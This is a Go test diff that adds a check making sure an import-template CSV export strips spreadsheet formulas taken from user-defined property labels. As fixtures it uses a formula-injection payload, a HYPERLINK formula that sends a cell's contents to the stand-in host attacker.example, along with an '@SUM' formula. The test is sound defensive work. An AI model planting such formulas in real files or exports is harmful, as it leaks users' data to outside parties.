@@ -3,6 +3,7 @@ package httpapi
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"strings"
@@ -212,5 +213,31 @@ func TestAnXLSXImportOfMoreThanAThousandRowsIsRefusedNotCutShort(t *testing.T) {
 	ok := sparseXLSX(t, 20, 1000, func(f *excelize.File) { _ = f.SetRowHeight("Sheet1", 5000, 30) })
 	if r := a.upload(&ada, orgID, provisioning.ContentTypeXLSX, ok, true); r.status != 200 {
 		t.Fatalf("%d %.300s; want 200", r.status, r.body)
+	}
+}
+
+func TestTheImportTemplateCarriesNoFormulaFromAPropertyLabel(t *testing.T) {
+	a, _ := importAPI(t)
+	ada := person("ada")
+	orgID := a.org(ada, "Acme")
+	evil := `=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")`
+	if r := a.do(PutUserProperties, &ada, map[string]string{"orgId": orgID}, nil,
+		`{"items":[{"key":"team","label":"`+evil+`","type":"string","required":false},{"key":"site","label":"@SUM(1+1)","type":"string","required":false}]}`); r.status != 200 {
+		t.Fatalf("%d %s", r.status, r.body)
+	}
+	resp := a.call(ImportTemplate, a.request(ImportTemplate, &ada, map[string]string{"orgId": orgID}, map[string][]string{"format": {"csv"}}, ""))
+	if resp.StatusCode != 200 {
+		t.Fatalf("%d %s", resp.StatusCode, resp.Body)
+	}
+	recs, err := csv.NewReader(strings.NewReader(resp.Body)).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("%v %q", err, resp.Body)
+	}
+	for _, rec := range recs {
+		for _, c := range rec {
+			if c != "" && strings.ContainsRune("=@", rune(c[0])) {
+				t.Errorf("the template has a cell a spreadsheet runs as a formula: %q", c)
+			}
+		}
 	}
 }
